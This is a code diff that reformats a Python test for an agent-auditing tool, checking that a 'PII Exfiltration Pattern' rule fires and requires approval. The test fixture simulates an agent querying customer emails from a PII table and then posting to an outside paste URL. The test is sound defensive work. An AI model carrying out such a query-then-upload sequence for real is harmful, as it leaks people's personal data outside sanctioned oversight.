@@ -519,11 +519,27 @@ def test_pii_rule_match_is_a_span_event_a_record_and_a_counter(make_harness: Any
 
     h = make_harness(rules=[PII_EXFILTRATION_RULE])
     emit(h, ev.TurnStartEvent(agent_id="a", turn_id="t1"), 0)
-    emit(h, ev.ToolCallAttemptEvent(agent_id="a", turn_id="t1", tool_name="run_sql",
-                                    arguments_preview="{'query': 'SELECT email FROM customers.pii_emails'}"), 1)
+    emit(
+        h,
+        ev.ToolCallAttemptEvent(
+            agent_id="a",
+            turn_id="t1",
+            tool_name="run_sql",
+            arguments_preview="{'query': 'SELECT email FROM customers.pii_emails'}",
+        ),
+        1,
+    )
     emit(h, ev.ToolCallCompleteEvent(agent_id="a", turn_id="t1", tool_name="run_sql"), 2)
-    emit(h, ev.ToolCallAttemptEvent(agent_id="a", turn_id="t1", tool_name="http_post",
-                                    arguments_preview="{'url': 'https://paste.example.net/upload'}"), 30)
+    emit(
+        h,
+        ev.ToolCallAttemptEvent(
+            agent_id="a",
+            turn_id="t1",
+            tool_name="http_post",
+            arguments_preview="{'url': 'https://paste.example.net/upload'}",
+        ),
+        30,
+    )
     emit(h, ev.ToolCallCompleteEvent(agent_id="a", turn_id="t1", tool_name="http_post"), 31)
     emit(h, ev.TurnEndEvent(agent_id="a", turn_id="t1"), 32)
     sql, post = h.span("execute_tool run_sql"), h.span("execute_tool http_post")
@@ -533,8 +549,12 @@ def test_pii_rule_match_is_a_span_event_a_record_and_a_counter(make_harness: Any
     match_event = next(e for e in post.events if e.name == "audit.behavior_rule_match")
     records = h.records()
     match = next(r for r in records if r["event_type"] == "behavior_rule_match")
-    sql_attempt = next(r for r in records if r["event_type"] == "tool_call_attempt" and r["tool_name"] == "run_sql")
-    post_attempt = next(r for r in records if r["event_type"] == "tool_call_attempt" and r["tool_name"] == "http_post")
+    sql_attempt = next(
+        r for r in records if r["event_type"] == "tool_call_attempt" and r["tool_name"] == "run_sql"
+    )
+    post_attempt = next(
+        r for r in records if r["event_type"] == "tool_call_attempt" and r["tool_name"] == "http_post"
+    )
     assert match["rule_name"] == "PII Exfiltration Pattern" and match["action"] == "REQUIRE_APPROVAL"
     assert match["trigger_event_id"] == sql_attempt["event_id"]
     assert match["match_event_id"] == post_attempt["event_id"]
